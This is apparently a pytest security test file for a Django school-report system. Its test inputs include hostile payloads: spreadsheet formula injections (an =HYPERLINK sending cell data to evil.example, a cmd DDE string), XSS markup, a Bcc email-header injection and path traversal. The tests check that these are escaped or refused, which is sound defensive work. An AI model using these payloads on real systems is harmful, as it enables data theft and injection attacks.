"""Attacks on the files of a report and the routes around them: another board's ids on the file
pages and the API, a reader of issued versions asking for a draft, hostile titles in the file's
name and the email, formulas in the workbook, hostile text in the three outputs, the task run
twice, odd ids and bodies on the API, the inspector's link, and suppressed cells in every file."""

import datetime
import json
import os
from io import BytesIO

import docx
import openpyxl
import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.urls import reverse

from stelsel.accounts.services import token_create
from stelsel.organisations.roles import Role
from stelsel.picture.inspector.services import inspector_link_create
from stelsel.picture.models import InspectorAccess, InspectorLink
from stelsel.reports import files, outputs, services
from stelsel.reports.models import InspectorShare, RenderState, ReportFile, ReportSection
from stelsel.reports.outputs.pdf import _rows as pdf_rows_of
from stelsel.reports.outputs.pdf import html as pdf_html
from stelsel.reports.outputs.xlsx import sheet_name
from stelsel.selfevaluation.services import round_close, round_share
from tests.factories import (
    fill_answers,
    grant,
    make_inspector_link,
    make_round,
    make_school,
    make_user,
)
from tests.factories.reports import make_report

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
DATABASE = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
FORMATS = ("pdf", "docx", "xlsx")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ON_POSTGRES = os.environ.get("DATABASE_URL", "").startswith("postgres")
START, END = datetime.date(2026, 8, 1), datetime.date(2026, 12, 31)
SECRET = "Een concept dat de raad niet mag zien."


@pytest.fixture
def immediate(settings):
    settings.TASKS = IMMEDIATE


def _text_section(report, number=1) -> ReportSection:
    return (
        ReportSection.objects.filter(version__report=report, version__number=number, kind="text")
        .order_by("position")
        .first()
    )


def _write(report, text, number=1, title=None):
    section = _text_section(report, number)
    services.section_update(
        section=section,
        title=title or section.title,
        text=text,
        revision=section.revision,
        user=None,
    )


def _issued(board, school, *, title="Q-rapportage najaar", text="Zo staan we ervoor."):
    report = make_report(board, school, title=title)
    _write(report, text)
    return services.version_issue(version=report.versions.get(), user=None)


def _with_draft(world):
    """A school's report: version 1 issued, version 2 a draft with a text nobody else reads."""
    version = _issued(world.board, world.school)
    report = version.report
    services.version_new(report=report, user=None, reason="Nieuwe cijfers.")
    _write(report, SECRET, number=2)
    return report


def _web(name, *args):
    return reverse(f"reports:{name}", args=args)


def _api(name, *args):
    return reverse(f"api:{name}", args=args)


def _file_urls(board_id, report_id, number, format="pdf"):
    return [
        ("get", _web("file", board_id, report_id, number, format)),
        ("post", _web("file", board_id, report_id, number, format)),
        ("get", _web("file_download", board_id, report_id, number, format)),
        ("get", _api("report_files", board_id, report_id, number)),
        ("get", _api("report_file", board_id, report_id, number, format)),
        ("get", _api("report_version", board_id, report_id, number)),
    ]


def _made(version, format, user=None) -> ReportFile:
    record = files.file_request(version=version, format=format, user=user)
    record.refresh_from_db()
    return record


def _bytes(record: ReportFile) -> bytes:
    with record.file.open("rb") as handle:
        return handle.read()


def _other_boards_version(world):
    school = make_school(world.other_board, name="Elders")
    return _issued(world.other_board, school, title="Elders")


# --- Another board's ids, and drafts, on the file routes and the API ------------------------------


def test_another_boards_version_is_404_on_every_file_route(world, client, immediate):
    own = _issued(world.board, world.school)
    _made(own, "pdf")
    foreign = _other_boards_version(world)
    foreign_file = _made(foreign, "pdf")
    client.force_login(world.users[Role.BOARD_EXECUTIVE])
    # The other board's report and version numbers under this board's id, and the other
    # board's id itself: nothing is found, nothing is asked for.
    for board_id in (world.board.pk, world.other_board.pk):
        for method, path in _file_urls(board_id, foreign.report_id, foreign.number):
            response = getattr(client, method)(path)
            assert response.status_code == 404, (method, path, response.status_code)
    assert ReportFile.objects.filter(version=foreign).count() == 1
    foreign_file.refresh_from_db()
    assert foreign_file.requested_by is None
    # This board's report with the other board's file format trick: an unknown type.
    for format in ("exe", "PDF", "pdf.html", "..%2f..", "xlsx%00"):
        assert client.get(_web("file", world.board.pk, own.report_id, 1, format)).status_code in (
            404,
        )
        answer = client.get(_api("report_file", world.board.pk, own.report_id, 1, format))
        assert answer.status_code == 404


def test_a_reader_of_issued_versions_reaches_no_draft(world, client, immediate):
    report = _with_draft(world)
    version = report.versions.get(number=1)
    _made(version, "xlsx")
    client.force_login(world.users[Role.SUPERVISOR])
    for method, path in _file_urls(world.board.pk, report.pk, 2, "xlsx"):
        response = getattr(client, method)(path)
        assert response.status_code == 404, (method, path, response.status_code)
    figures = client.get(_web("draft_figures", world.board.pk, report.pk, 2))
    assert figures.status_code in (403, 404)
    assert SECRET.encode() not in figures.content
    # The issued version and its list say nothing of the draft.
    for path in (
        _api("report", world.board.pk, report.pk),
        _api("report_version", world.board.pk, report.pk, 1),
        _api("report_files", world.board.pk, report.pk, 1),
    ):
        answer = client.get(path)
        assert answer.status_code == 200 and SECRET not in answer.content.decode()
    detail = client.get(_api("report", world.board.pk, report.pk)).json()
    assert detail["open_version"] is None and [v["number"] for v in detail["versions"]] == [1]
    # A personal token reads no more than the session.
    raw = token_create(user=world.users[Role.SUPERVISOR], name="rvt")[1]
    client.logout()
    headers = {"HTTP_AUTHORIZATION": f"Bearer {raw}"}
    for name in ("report_version", "report_files"):
        assert client.get(_api(name, world.board.pk, report.pk, 2), **headers).status_code == 404
    answer = client.get(_api("report_file", world.board.pk, report.pk, 2, "xlsx"), **headers)
    assert answer.status_code == 404
    assert ReportFile.objects.filter(version__number=2).count() == 0


def test_only_an_issued_version_gets_a_file_from_the_service(world):
    report = _with_draft(world)
    draft = report.versions.get(number=2)
    with pytest.raises(ValidationError):
        files.file_request(version=draft, format="pdf", user=None)
    with pytest.raises(ValidationError):
        files.file_request(version=report.versions.get(number=1), format="exe", user=None)
    # A file record forged against a draft is refused by the task, readably.
    forged = ReportFile.objects.create(board=world.board, version=draft, format="pdf")
    assert files.file_render(forged.pk) == RenderState.FAILED
    forged.refresh_from_db()
    assert forged.error and not forged.file


# --- Hostile titles: the file's name, its headers and the email -----------------------------------


HOSTILE_TITLE = 'Q "rapport"; filename=evil.exe — Ünïcødé 😀 <script>x</script> \\ ../..'


def test_the_download_is_named_safely_whatever_the_title(world, client, immediate):
    version = _issued(world.board, world.school, title=HOSTILE_TITLE)
    client.force_login(world.users[Role.SUPERVISOR])
    for format in FORMATS:
        _made(version, format, world.users[Role.SUPERVISOR])
        for path in (
            _web("file_download", world.board.pk, version.report_id, 1, format),
            _api("report_file", world.board.pk, version.report_id, 1, format),
        ):
            response = client.get(path)
            assert response.status_code == 200, path
            disposition = response["Content-Disposition"]
            assert disposition.startswith('attachment; filename="') and disposition.endswith(
                f'.{format}"'
            )
            name = disposition[len('attachment; filename="') : -1]
            assert name.isascii() and not set(name) & set('"\\/;<>\r\n')
            assert response["Content-Type"] == outputs.OUTPUTS[format].content_type
            assert response["X-Content-Type-Options"] == "nosniff"
            b"".join(response.streaming_content)
    assert (
        outputs.file_name("pdf", {"title": "日本語のレポート", "version": 2})
        == "report-v2-draft.pdf"
    )


def _planted(version, **fields) -> None:
    """Give an issued version's stored content other texts, as one issued before the services
    refused them would hold, with its hash made anew (the outputs check it)."""
    from stelsel.reports.models import ReportVersion
    from stelsel.reports.snapshot import content_hash

    snapshot = json.loads(json.dumps(version.snapshot))
    snapshot.update(fields.pop("top", {}))
    for section in snapshot["sections"]:
        if section["kind"] == "text":
            section["text"] = fields.get("text", section["text"])
    ReportVersion.objects.filter(pk=version.pk).update(
        snapshot=snapshot, content_hash=content_hash(snapshot)
    )
    version.refresh_from_db()


def test_a_title_with_a_line_break_is_refused_and_an_old_one_still_gives_file_and_email(
    world, client, immediate
):
    with pytest.raises(ValidationError):
        make_report(world.board, world.school, title="Q-rapportage\nnajaar\r\nBcc: x@y.nl")
    version = _issued(world.board, world.school)
    _planted(version, top={"title": "Q-rapportage\nnajaar\r\nBcc: x@y.nl"})
    supervisor = world.users[Role.SUPERVISOR]
    client.force_login(supervisor)
    client.raise_request_exception = False
    response = client.post(_web("file", world.board.pk, version.report_id, 1, "xlsx"))
    assert response.status_code == 302
    record = ReportFile.objects.get(version=version)
    assert record.state == RenderState.DONE and record.notified
    (email,) = mail.outbox
    assert "\n" not in email.subject and email.to == [supervisor.email]


# --- Formulas in the workbook are text ------------------------------------------------------------


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _hostile_snapshot(version) -> dict:
    """An issued snapshot with formula-like text in every place the workbook writes text."""
    snapshot = json.loads(json.dumps(version.snapshot))
    snapshot["title"], snapshot["unit"], snapshot["board"] = FORMULAS[:3]
    snapshot["template"], snapshot["issued_by"] = FORMULAS[3], FORMULAS[6]
    for index, section in enumerate(snapshot["sections"]):
        section["title"] = FORMULAS[index % len(FORMULAS)]
        section["text"] = FORMULAS[(index + 1) % len(FORMULAS)]
        block = section.get("block")
        if block:
            block["source"] = FORMULAS[0]
            block["notes"] = list(FORMULAS)
            block["tables"] = [
                {
                    "caption": FORMULAS[1],
                    "columns": list(FORMULAS),
                    "rows": [list(FORMULAS), [None, 1, -2.5, FORMULAS[0], None, 0, "-"]],
                    "note": FORMULAS[2],
                }
            ]
    return snapshot


def _formula_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(BytesIO(data))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                ):
                    bad.append((sheet.title, cell.coordinate, cell.value))
    return bad


def test_formula_like_text_is_written_as_text_in_the_workbook(world):
    version = _issued(world.board, world.school)
    data = outputs.render("xlsx", _hostile_snapshot(version))
    assert _formula_cells(data) == []
    # Numbers stay numbers, empty cells stay empty.
    values = [
        c.value
        for s in openpyxl.load_workbook(BytesIO(data)).worksheets
        for r in s.iter_rows()
        for c in r
    ]
    assert -2.5 in values and 0 in values


def test_no_sheet_is_named_as_excel_reserves(world):
    assert sheet_name("History", set()).lower() != "history"


def test_a_drafts_figures_write_formulas_typed_in_the_draft_as_text(world, client):
    report = make_report(world.board, world.school, title="=1+2")
    _write(report, '=HYPERLINK("http://evil.example","x")', title="@SUM(A1)")
    client.force_login(world.users[Role.QUALITY_OFFICER])
    response = client.get(_web("draft_figures", world.board.pk, report.pk, 1))
    assert response.status_code == 200
    assert _formula_cells(response.content) == []


# --- Hostile text in the three outputs ------------------------------------------------------------


MARKUP = (
    "<script>alert(1)</script></td></table></body>{{ secret }}{% csrf_token %}"
    "&lt;b&gt; &#0; ]]> <![CDATA[x]]> <w:t>x</w:t>\n\n"
    "# <img src=x onerror=alert(1)>\n\n[klik](javascript:alert(1)) "
    + "W" * 3_000
    + "\n\nמילים בעברית ‮ 😀 \u200b\ufeff"
)


def test_markup_and_long_words_give_all_three_files(world, immediate, tmp_path):
    version = _issued(world.board, world.school, title="<b>Q</b> & 'x'", text=MARKUP)
    for format in FORMATS:
        record = _made(version, format)
        assert record.state == RenderState.DONE, (format, record.error)
    text = "\n".join(
        p.text for p in docx.Document(BytesIO(_bytes(_made(version, "docx")))).paragraphs
    )
    assert "<script>alert(1)</script>" in text and "{{ secret }}" in text
    # The HTML the PDF is laid out from carries the markup as text, never as markup.
    source = pdf_html(version.snapshot)
    assert "<script>" not in source and "&lt;script&gt;" in source
    assert 'href="javascript' not in source and "onerror=alert(1)>" not in source


CONTROL = "Tabel geplakt uit Word:\x0bregel\x0c\x01\x08\x1b[31m\x7f einde"


def test_control_characters_are_refused_by_the_services(world):
    report = make_report(world.board, world.school, title="Concept")
    with pytest.raises(ValidationError):
        _write(report, CONTROL)
    with pytest.raises(ValidationError):
        make_report(world.board, world.school, title="Q\x0bnajaar")
    section = _text_section(report, 1)
    with pytest.raises(ValidationError):
        services.comment_add(section=section, author=None, text="Zie\x0bhier")


def test_control_characters_in_an_issued_version_still_give_every_file(world, immediate):
    version = _issued(world.board, world.school)
    _planted(version, text=CONTROL, top={"title": "Q\x0bnajaar"})
    assert {f: _made(version, f).state for f in FORMATS} == dict.fromkeys(FORMATS, "done")


# --- The task runs once per request ---------------------------------------------------------------


def test_the_task_makes_a_file_once_however_often_it_runs(world, settings):
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = DATABASE
    version = _issued(world.board, world.school)
    first = files.file_request(version=version, format="xlsx", user=None)
    second = files.file_request(version=version, format="xlsx", user=world.users[Role.SUPERVISOR])
    assert first.pk == second.pk and DBTaskResult.objects.count() == 1
    assert files.file_render(first.pk) == RenderState.DONE
    first.refresh_from_db()
    name, finished = first.file.name, first.finished_at
    # The same task delivered again, or a second worker: nothing is made twice.
    assert files.file_render(first.pk) == RenderState.DONE
    assert files.render_report_file.call(first.pk) == RenderState.DONE
    first.refresh_from_db()
    assert (first.file.name, first.finished_at) == (name, finished)
    # Asking once more gives the finished file and queues nothing.
    assert files.file_request(version=version, format="xlsx", user=None).pk == first.pk
    assert DBTaskResult.objects.count() == 1
    assert files.file_render(10**9) == "gone"
    # A file being made by another worker is not claimed a second time.
    pdf = files.file_request(version=version, format="pdf", user=None)
    ReportFile.objects.filter(pk=pdf.pk).update(state=RenderState.RUNNING)
    assert files.file_render(pdf.pk) == RenderState.RUNNING
    assert not ReportFile.objects.get(pk=pdf.pk).file


# --- The API: odd ids, odd bodies -----------------------------------------------------------------


BAD_IDS = [0, -1, 2**31, 2**63, 10**30, "abc", "1.5", "%20"]


@pytest.mark.parametrize("bad", BAD_IDS)
def test_odd_ids_on_the_api_answer_404_or_422(world, client, bad):
    report = _with_draft(world)
    section = _text_section(report, 2)
    client.force_login(world.users[Role.QUALITY_OFFICER])
    client.raise_request_exception = False
    b, r = world.board.pk, report.pk
    paths = {
        "board": (f"/api/v1/boards/{bad}/reports", None),
        "report": (f"/api/v1/boards/{b}/reports/{bad}", None),
        "version": (f"/api/v1/boards/{b}/reports/{r}/versions/{bad}", None),
        "files": (f"/api/v1/boards/{b}/reports/{r}/versions/{bad}/files", None),
        "file": (f"/api/v1/boards/{b}/reports/{r}/versions/{bad}/files/pdf", None),
        "comments": (f"/api/v1/boards/{b}/reports/{r}/versions/2/comments?section_id={bad}", None),
        "section": (f"/api/v1/boards/{b}/reports/{r}/versions/2/sections/{bad}", "patch"),
        "comment": (f"/api/v1/boards/{b}/reports/{r}/versions/2/sections/{bad}/comments", "post"),
        "web file": (f"/besturen/{b}/rapportages/{r}/versies/{bad}/bestanden/pdf/", None),
        "web report": (f"/besturen/{b}/rapportages/{bad}/versies/1/bestanden/pdf/", None),
        "web figures": (f"/besturen/{b}/rapportages/{r}/versies/{bad}/cijfers/", None),
    }
    assert _web("file", b, r, 1, "pdf") == f"/besturen/{b}/rapportages/{r}/versies/1/bestanden/pdf/"
    assert _api("report_section_update", b, r, 2, section.pk).startswith("/api/v1/")
    for name, (path, method) in paths.items():
        if method:
            body = json.dumps({"revision": 1, "text": "x"})
            response = getattr(client, method)(path, body, content_type="application/json")
        else:
            response = client.get(path)
        assert response.status_code in (404, 422), (name, bad, response.status_code)
    section.refresh_from_db()
    assert section.text == SECRET


BAD_BODIES = [
    {"revision": "x", "text": "a"},
    {"revision": 2**70, "text": "a"},
    {"revision": -1, "text": "a"},
    {"revision": 1, "text": 5},
    {"revision": 1, "title": ["lijst"]},
    {"revision": 1, "text": {"a": 1}},
    {"revision": 1, "text": "x" * 200_000},
    {"revision": 1, "title": "t" * 5_000},
    {"revision": 1, "text": "nul\x00"},
    {"revision": 1, "title": "   "},
    [],
    "tekst",
    None,
]


@pytest.mark.parametrize("body", BAD_BODIES, ids=range(len(BAD_BODIES)))
def test_odd_section_bodies_answer_422_and_change_nothing(world, client, body):
    report = make_report(world.board, world.school)
    section = _text_section(report)
    client.force_login(world.users[Role.QUALITY_OFFICER])
    path = _api("report_section_update", world.board.pk, report.pk, 1, section.pk)
    response = client.patch(path, json.dumps(body), content_type="application/json")
    assert response.status_code in (400, 409, 422), response.status_code
    section.refresh_from_db()
    assert (section.text, section.revision) == ("", 1)


def test_a_deeply_nested_body_answers_400(world, client):
    report = make_report(world.board, world.school)
    section = _text_section(report)
    client.force_login(world.users[Role.QUALITY_OFFICER])
    client.raise_request_exception = False
    path = _api("report_section_update", world.board.pk, report.pk, 1, section.pk)
    body = "[" * 100_000 + "]" * 100_000
    response = client.patch(path, body, content_type="application/json")
    assert response.status_code in (400, 422)


def test_a_body_over_the_upload_limit_is_refused(world, client, settings):
    report = make_report(world.board, world.school)
    section = _text_section(report)
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    client.force_login(world.users[Role.QUALITY_OFFICER])
    client.raise_request_exception = False
    path = _api("report_section_update", world.board.pk, report.pk, 1, section.pk)
    body = json.dumps({"revision": 1, "text": "x" * 60_000})
    response = client.patch(path, body, content_type="application/json")
    assert response.status_code in (400, 413)
    section.refresh_from_db()
    assert section.revision == 1


# --- The inspector's link -------------------------------------------------------------------------


def _inspector_url(token, version):
    return reverse("reports:inspector_report", args=[token, version.pk])


def test_a_boards_link_opens_no_schools_report_and_a_schools_link_no_boards(world, client):
    school_version = _issued(world.board, world.school, title="School")
    board_version = make_report(world.board, None, title="Bestuur", issued=True).versions.get()
    board_link, board_token = make_inspector_link(world.board, None)
    school_link, school_token = make_inspector_link(world.board, world.school)
    # Shares stored against the wrong unit, as a bug elsewhere might: still never opened.
    InspectorShare.objects.create(board=world.board, link=board_link, version=school_version)
    InspectorShare.objects.create(board=world.board, link=school_link, version=board_version)
    assert client.get(_inspector_url(board_token, school_version)).status_code == 404
    assert client.get(_inspector_url(school_token, board_version)).status_code == 404
    # Another board's version stored against this board's link: never opened either.
    foreign = _other_boards_version(world)
    InspectorShare.objects.create(board=world.board, link=school_link, version=foreign)
    assert client.get(_inspector_url(school_token, foreign)).status_code == 404
    for odd in (0, 2**63, 10**30):
        assert client.get(f"/inzage/{school_token}/rapportage/{odd}/").status_code == 404
    assert not InspectorAccess.objects.exists()


def test_the_link_opens_only_the_version_it_was_given(world, client):
    first = _issued(world.board, world.school, title="Q")
    link, token = make_inspector_link(
        world.board,
        world.school,
        user=world.users[Role.SCHOOL_LEADER],
        shared={"reports": [first.pk]},
    )
    services.version_new(report=first.report, user=None, reason="Correctie.")
    _write(first.report, SECRET, number=2)
    second = first.report.versions.get(number=2)
    assert client.get(_inspector_url(token, second)).status_code == 404
    services.version_issue(version=second, user=None)
    # Issued later, never added: the link still opens version 1 only.
    assert client.get(_inspector_url(token, second)).status_code == 404
    page = client.get(_inspector_url(token, first))
    assert page.status_code == 200 and SECRET not in page.content.decode()


def test_the_inspector_page_shows_hostile_text_as_text(world, client):
    version = _issued(world.board, world.school, title="<script>alert(1)</script>", text=MARKUP)
    _link, token = make_inspector_link(
        world.board,
        world.school,
        user=world.users[Role.SCHOOL_LEADER],
        shared={"reports": [version.pk]},
    )
    page = client.get(_inspector_url(token, version)).content.decode()
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in page and 'href="javascript' not in page


def test_a_link_with_a_refused_or_unknown_share_is_not_made(world):
    draft = make_report(world.board, world.school, title="Concept").versions.get()
    foreign = _other_boards_version(world)
    maker = world.users[Role.BOARD_EXECUTIVE]
    for shared in (
        {"reports": [draft.pk]},
        {"reports": [foreign.pk]},
        {"reports": [draft.pk, -1]},
        {"onbekend": [1]},
    ):
        with pytest.raises(ValidationError):
            inspector_link_create(
                board=world.board, school=world.school, label="x", user=maker, shared=shared
            )
    assert not InspectorLink.objects.exists() and not InspectorShare.objects.exists()
    # A maker who does not read the school's reports cannot add its issued version.
    issued = _issued(world.board, world.school)
    stranger = make_user()
    grant(stranger, world.board, Role.STAFF, world.school)
    with pytest.raises(ValidationError):
        inspector_link_create(
            board=world.board,
            school=world.school,
            label="x",
            user=stranger,
            shared={"reports": [issued.pk]},
        )
    assert not InspectorShare.objects.exists()


# --- Suppressed self-evaluation cells in every file -----------------------------------------------


def _council(row) -> bool:
    """A table row of the council's group (its name in the second column)."""
    return len(row) > 2 and isinstance(row[1], str) and "council" in row[1].lower()


def test_suppressed_cells_are_empty_in_every_file(world, immediate):
    round_ = make_round(world.board, world.school, state="open")
    fill_answers(round_, "teachers", 6, 3)
    fill_answers(round_, "council", 2, 1)  # two people: below k = 5
    round_close(round_=round_)
    round_share(round_=round_, roles=[Role.SUPERVISOR, Role.SCHOOL_LEADER])
    report = make_report(world.board, world.school, start=START, end=END, issued=True)
    version = report.versions.get()
    (section,) = [
        s
        for s in version.snapshot["sections"]
        if (s.get("block") or {}).get("kind") == "selfevaluation"
    ]
    council = [row for t in section["block"]["tables"] for row in t["rows"] if _council(row)]
    assert len(council) == 2 and all(v is None for row in council for v in row[2:]), council
    # Excel: the council's cells are empty, not its 1.0 or its two respondents.
    book = openpyxl.load_workbook(BytesIO(_bytes(_made(version, "xlsx"))))
    rows = [
        row
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        if _council(row)
    ]
    assert len(rows) == 2 and all(v is None for r in rows for v in r[2:]), rows
    # Word: "—" in the council's cells.
    document = docx.Document(BytesIO(_bytes(_made(version, "docx"))))
    word_rows = [
        [c.text for c in row.cells]
        for t in document.tables
        for row in t.rows
        if _council([c.text for c in row.cells])
    ]
    assert len(word_rows) == 2 and all(set(r[2:]) == {"—"} for r in word_rows), word_rows
    # PDF: the HTML it is laid out from has the same dashes, and the file is made.
    pdf_rows = [
        [c["text"] for c in cells]
        for t in section["block"]["tables"]
        for cells in pdf_rows_of(t)
        if _council([c["text"] for c in cells])
    ]
    assert len(pdf_rows) == 2 and all(set(r[2:]) == {"—"} for r in pdf_rows), pdf_rows
    assert _made(version, "pdf").state == RenderState.DONE


def test_an_id_out_of_range_is_refused_like_any_unknown_id(world):
    with pytest.raises(ValidationError):
        inspector_link_create(
            board=world.board,
            school=world.school,
            label="x",
            user=world.users[Role.BOARD_EXECUTIVE],
            shared={"reports": [2**63]},
        )
